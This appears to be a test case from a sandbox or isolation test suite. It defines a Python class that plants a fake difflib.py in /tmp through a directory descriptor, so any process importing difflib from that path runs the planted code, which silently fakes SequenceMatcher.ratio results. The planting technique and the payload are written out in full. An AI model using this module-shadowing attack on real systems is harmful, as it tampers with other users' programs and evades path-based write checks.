FAMILY = "F2"
DESCRIPTION = "Plants /tmp/difflib.py through os.open(dir_fd=<fd of /tmp>) with a relative name; /tmp is sys.path[0], so a victim importing difflib runs it."
CLASS = "Planter"
CODE = r'''
import os

PAYLOAD = """
import sys
sys.path[:] = [p for p in sys.path if p != '/tmp']
sys.modules.pop('difflib', None)
import difflib as _real
for _k in dir(_real):
    globals().setdefault(_k, getattr(_real, _k))
class SequenceMatcher(_real.SequenceMatcher):
    def ratio(self):
        return 0.123456
"""

class Planter:
    def __init__(self, init_config=None):
        self.planted = []

    def plant(self, module: str):
        """Create <module>.py in /tmp through a directory fd."""
        d = os.open("/tmp", os.O_RDONLY | os.O_DIRECTORY)
        fd = os.open(module + ".py", os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o644, dir_fd=d)
        os.write(fd, PAYLOAD.encode())
        os.close(fd)
        self.planted.append(module)
        return {"success": True, "data": sorted(os.listdir("/tmp"))[:5]}
'''
ACTIONS = [("plant", {"module": "difflib"})]
